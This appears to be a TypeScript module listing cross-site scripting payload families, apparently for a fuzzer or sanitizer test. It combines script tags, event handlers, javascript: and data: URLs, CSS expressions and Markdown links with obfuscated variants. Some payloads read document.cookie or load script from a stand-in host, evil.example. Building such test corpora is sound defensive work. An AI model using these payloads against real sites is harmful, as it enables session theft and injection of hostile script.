import { family, type PayloadFamily } from "./payload-family.js";

export const SCRIPT: readonly PayloadFamily[] = [
  family(
    "text of a program",
    ['"', "'"],
    ["-", ";", ");"],
    ["alert(1)", "alert(document.cookie)", "eval(name)"],
    ["//", "/*"],
  ),
  family("sum of texts", ["x", ""], ["'-alert(1)-'", '"+prompt(1)+"', "`-confirm(1)-`"]),
  family(
    "element",
    ["", '">', "'></title>", "x"],
    ["<script>", "<SCRIPT >", "<script/x>", "<scRipt\n>"],
    ["alert(1)", "document.cookie='a'", "fetch('//evil.example')"],
    ["</script>", ""],
  ),
  family(
    "source",
    ["", '">'],
    ["<script src=", "<SCRIPT/SRC="],
    ["//evil.example/x.js", '"https://evil.example/x"'],
    ["></script>", ">"],
  ),
  family(
    "handler",
    ["<img src=x ", "<svg ", "<body ", "<input autofocus ", "<details open ", "<video><source ", "<a ", "<xss "],
    ["onerror=", "onload =", "OnFocus=", "ontoggle=", "onmouseover="],
    ["alert(1)", '"alert(1)"', "'fetch(`//e`)'", "&#97;lert(1)"],
    [">", "/>"],
  ),
  family(
    "handler in an attribute",
    ['x" ', "x' ", '"/'],
    ["onerror=", "onmouseover=", "onfocus = "],
    ["alert(1) ", "confirm(document.domain) ", "eval(name)//"],
  ),
  family(
    "URL",
    ['<a href="', "<iframe src='", '<form action="', '<object data="', "<embed src=", '<svg><a xlink:href="'],
    [
      "javascript:",
      "JaVaScRiPt:",
      "java\tscript:",
      "&#106;avascript:",
      " javascript&colon;",
      "vbscript:",
      "data:text/html;base64,",
    ],
    ["alert(1)", "PHNjcmlwdD4"],
    ['">', "'>"],
  ),
  family(
    "style",
    ['<div style="'],
    [
      "width: expression(alert(1))",
      "background:url(javascript:alert(1))",
      "-moz-binding:url(//evil.example/x)",
      "behavior: url(x.htc)",
    ],
    ['">'],
  ),
  family("frame", ["<iframe "], ["srcdoc='<script>alert(1)</script>'", "src=//evil.example"], [">"]),
  family(
    "refresh",
    ["<meta http-equiv=refresh content="],
    ["'0;url=javascript:alert(1)'", '"0; url=data:text/html,x"'],
    [">"],
  ),
  family(
    "link of Markdown",
    ["[x](", "![a]("],
    ["javascript:alert(1)", "javascript:fetch('x')", "data:text/html,<script>alert(1)</script>"],
    [")"],
  ),
];
